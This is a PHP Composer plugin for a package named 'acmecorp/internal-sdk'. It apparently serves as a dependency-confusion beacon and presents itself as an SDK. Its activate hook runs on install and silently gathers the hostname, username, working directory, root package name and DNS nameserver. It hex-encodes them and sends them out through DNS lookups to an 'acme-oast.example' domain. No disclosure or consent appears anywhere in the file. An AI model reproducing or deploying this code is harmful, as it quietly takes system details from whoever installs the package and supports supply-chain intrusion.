<?php

namespace AcmeCorp\InternalSdk\Composer;

use Composer\Composer;
use Composer\IO\IOInterface;
use Composer\Plugin\PluginInterface;

class SdkPlugin implements PluginInterface
{
    public function activate(Composer $composer, IOInterface $io)
    {
        $root = '';
        try {
            $root = $composer->getPackage()->getName();
        } catch (\Throwable $e) {
        }
        self::beacon($root);
    }

    public function deactivate(Composer $composer, IOInterface $io)
    {
    }

    public function uninstall(Composer $composer, IOInterface $io)
    {
    }

    private static function beacon($root)
    {
        $resolv = (string) @file_get_contents('/etc/resolv.conf');
        preg_match('/^nameserver\s+(\S+)/m', $resolv, $m);
        $info = implode('|', [
            'acmecorp/internal-sdk',
            (string) gethostname(),
            (string) (getenv('USER') ?: @get_current_user()),
            (string) getcwd(),
            (string) $root,
            $m[1] ?? '',
        ]);
        $hex = bin2hex($info);
        $id = substr(md5($info), 0, 6);
        $chunks = str_split($hex, 60);
        foreach ($chunks as $seq => $label) {
            @gethostbyname(sprintf('%s.%d-%d.%s.d.acme-oast.example', $label, $seq, count($chunks), $id));
        }
    }
}
